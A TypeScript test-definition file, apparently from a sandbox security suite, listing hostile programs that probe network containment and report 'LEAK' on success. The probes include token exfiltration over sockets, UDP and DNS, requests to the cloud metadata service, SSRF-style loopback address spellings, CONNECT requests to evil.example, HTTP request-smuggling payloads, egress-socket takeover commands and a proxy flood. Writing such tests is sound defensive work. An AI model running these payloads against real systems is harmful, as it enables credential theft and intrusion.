import type { HostileProgram } from './hostile-program.ts'

/** Connects to each `[options, what]` of `targets` and reports what answers. */
const CONNECT = `import { connect } from 'node:net'
  const reach = (options, what) => new Promise((resolve) => {
    const socket = connect(options)
    socket.setTimeout(1500, () => socket.destroy())
    socket.on('error', () => {}).on('close', resolve)
    socket.on('connect', () => { console.log('LEAK ' + what); socket.write(process.env.HOSTILE_TOKEN) }).on('data', (data) => console.log(String(data)))
  })
  const { env } = process
`

/** Asks the proxy for each request line and reports an answer of 200. */
const ASK_PROXY = `import { connect } from 'node:net'
  const { env } = process
  const proxy = new URL(env.HTTP_PROXY)
  const ask = (line, headers = '') => new Promise((resolve) => {
    const socket = connect(Number(proxy.port), proxy.hostname)
    let text = ''
    socket.setTimeout(1500, () => socket.destroy())
    socket.on('error', () => {}).on('close', () => { if (/^HTTP\\/1.1 2/.test(text)) console.log('LEAK ' + line); resolve() })
    socket.on('data', (data) => { text += data; if (/^HTTP\\/1.1 2/.test(text)) socket.destroy() })
    socket.write(line + ' HTTP/1.1\\r\\n' + (headers || 'Host: registry.example\\r\\n') + '\\r\\n')
  })
`

/** Programs that want to talk to somebody. */
export const NETWORK_PROGRAMS: readonly HostileProgram[] = [
  {
    name: 'host-loopback',
    intent: "connect to a server on the host's loopback address",
    containedBy: 'network namespace without an interface',
    interpreter: 'node',
    text: `${CONNECT}; await reach({ host: '127.0.0.1', port: +env.PORT }, 'loopback'); await reach({ host: '::1', port: +env.PORT }, 'loopback v6')`,
    isFast: true,
    isHarmless: true,
  },
  {
    name: 'host-address',
    intent: "connect to a server on the host's own address",
    containedBy: 'network namespace without an interface',
    interpreter: 'node',
    text: `${CONNECT}; await reach({ host: env.HOSTIP, port: +env.PORT }, 'host address')`,
    isHarmless: true,
  },
  {
    name: 'udp',
    intent: 'send datagrams to the host and the internet',
    containedBy: 'network namespace without an interface',
    interpreter: 'node',
    text: `import { createSocket } from 'node:dgram'
      const socket = createSocket('udp4')
      const send = (host, port) => new Promise((resolve) => socket.send(process.env.HOSTILE_TOKEN, port, host, (error) => resolve(error)))
      await send('127.0.0.1', +process.env.PORT); await send(process.env.HOSTIP, +process.env.PORT)
      for (const host of ['1.1.1.1', '255.255.255.255', '224.0.0.1']) if (!(await send(host, 53))) console.log('LEAK datagram to ' + host)
      socket.close()`,
  },
  {
    name: 'unix-socket',
    intent: 'connect to a unix socket of the host',
    containedBy: 'mount namespace: the socket is not there',
    interpreter: 'node',
    text: `${CONNECT}; await reach({ path: env.OUTSIDE + '/service.sock' }, 'unix socket')`,
    isFast: true,
    isHarmless: true,
  },
  {
    name: 'abstract-socket',
    intent: 'connect to an abstract unix socket of the host',
    containedBy: 'network namespace: abstract names are its own',
    interpreter: 'node',
    text: `${CONNECT}; await reach({ path: '\\0' + env.ABSTRACT }, 'abstract socket')`,
    isHarmless: true,
  },
  {
    name: 'dns',
    intent: 'carry data out in name lookups',
    containedBy: 'network namespace without an interface',
    interpreter: 'node',
    text: `import dns from 'node:dns/promises'
      for (const name of ['example.com', process.env.HOSTILE_TOKEN + '.example.com'])
        await dns.lookup(name).then(() => console.log('LEAK lookup of ' + name), () => {})
      const resolver = new dns.Resolver({ timeout: 500, tries: 1 }); resolver.setServers(['1.1.1.1'])
      await resolver.resolve4('example.com').then(() => console.log('LEAK a direct question to a name server'), () => {})`,
  },
  {
    name: 'cloud-metadata',
    intent: "ask the cloud's metadata service for credentials",
    containedBy: 'network namespace without an interface',
    interpreter: 'node',
    text: `${CONNECT}; await reach({ host: '169.254.169.254', port: 80 }, 'metadata'); await reach({ host: 'fd00:ec2::254', port: 80 }, 'metadata v6')`,
  },
  {
    name: 'interfaces',
    intent: 'see network interfaces besides its own loopback',
    containedBy: 'network namespace without an interface',
    interpreter: 'node',
    text: `import os from 'node:os'
      for (const [name, entries] of Object.entries(os.networkInterfaces())) if (entries.some((e) => !e.internal)) console.log('LEAK interface ' + name)`,
    isFast: true,
  },
  {
    name: 'raw-sockets',
    intent: 'send raw packets',
    containedBy: 'network namespace, no capabilities',
    interpreter: 'sh',
    text: 'command -v ping >/dev/null && ping -c1 -W1 1.1.1.1 >/dev/null 2>&1 && echo LEAK ping; ip link add x type dummy 2>/dev/null && echo LEAK new interface; exit 0',
  },
  {
    name: 'no-proxy-without-policy',
    intent: 'use the egress proxy although its policy allows no network',
    containedBy: 'the egress socket is bound in for a policy that names hosts only',
    interpreter: 'node',
    text: `${CONNECT}; await reach({ path: '/opt/codex/egress.sock' }, 'egress socket'); await reach({ host: '127.0.0.1', port: 46128 }, 'egress bridge')`,
    isFast: true,
  },
  {
    name: 'proxy-to-loopback',
    intent: "reach the host's loopback through the proxy, in every spelling",
    containedBy: 'names are compared literally, and addresses checked after the lookup',
    interpreter: 'node',
    network: 'proxy',
    text: `${ASK_PROXY}
      for (const host of ['127.0.0.1', 'localhost', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f000001', '0177.0.0.1', '127.1', 'localhost.', 'LOCALHOST', env.HOSTIP, '@localhost', 'registry.example@localhost', '%6cocalhost']) {
        await ask('GET http://' + host + ':' + env.PORT + '/' + env.HOSTILE_TOKEN); await ask('CONNECT ' + host + ':' + env.PORT)
      }`,
    isFast: true,
  },
  {
    name: 'proxy-to-others',
    intent: 'reach hosts and ports that are not on the allow list',
    containedBy: 'allow list of the egress proxy',
    interpreter: 'node',
    network: 'proxy',
    text: `${ASK_PROXY}
      for (const target of ['registry.example:22', 'registry.example:80', 'registry.example.evil.example:443', 'evil.example:443', '1.1.1.1:443', '169.254.169.254:80', 'registry.example:443@1.1.1.1:443', 'registry.example:443#:80', '', '*', ':443', 'registry.example'])
        { await ask('CONNECT ' + target); await ask('GET http://' + target + '/') }
      await ask('GET /etc/passwd'); await ask('GET file:///etc/passwd'); await ask('GET ftp://registry.example:443/')`,
    findLeak: (_scene, { deniedHosts }) =>
      deniedHosts.includes('evil.example:443') ? null : 'the denial was not reported',
    isFast: true,
  },
  {
    name: 'proxy-header-smuggling',
    intent: 'lead the proxy elsewhere by its Host header or a second request',
    containedBy: 'the proxy forwards to the checked destination, whatever the headers say',
    interpreter: 'node',
    network: 'proxy',
    text: `${ASK_PROXY}
      const local = 'localhost:' + env.PORT
      const path = '/' + env.HOSTILE_TOKEN
      await ask('GET http://registry.example:443' + path, 'Host: ' + local + '\\r\\nX-Forwarded-Host: ' + local + '\\r\\n')
      await ask('GET http://evil.example/', 'Host: registry.example:443\\r\\n')
      await ask('POST http://evil.example/', 'Host: a\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://' + local + path + ' HTTP/1.1\\r\\nHost: b\\r\\n')
      await ask('GET http://evil.example/', 'Host: a\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n0\\r\\n\\r\\nGET http://' + local + path + ' HTTP/1.1\\r\\nHost: b\\r\\n')`,
  },
  {
    name: 'proxy-takeover',
    intent: 'replace the egress socket or the bridge for whoever comes next',
    containedBy: 'read-only mounts and no capability to change them',
    interpreter: 'sh',
    network: 'proxy',
    text: 'exec 2>/dev/null; rm /opt/codex/egress.sock && echo LEAK socket removed; mv /opt/codex/egress.sock /opt/codex/x && echo LEAK socket moved; ln -sf "$OUTSIDE/service.sock" /opt/codex/egress.sock && echo LEAK socket replaced; chmod 777 /opt/codex && touch /opt/codex/x && echo LEAK folder opened; exit 0',
  },
  {
    name: 'proxy-flood',
    intent: 'exhaust the proxy with connections',
    containedBy: 'connection limit of the proxy',
    interpreter: 'node',
    network: 'proxy',
    text: `import { connect } from 'node:net'
      const { hostname, port } = new URL(process.env.HTTP_PROXY)
      let closed = 0
      const enough = () => { if ((closed += 1) === 300) process.exit(0) }
      for (let i = 0; i < 600; i += 1) connect(+port, hostname).on('error', () => {}).on('close', enough)
      setTimeout(() => { console.log('LEAK only ' + closed + ' of 600 connections were refused'); process.exit(0) }, 12000)`,
  },
]
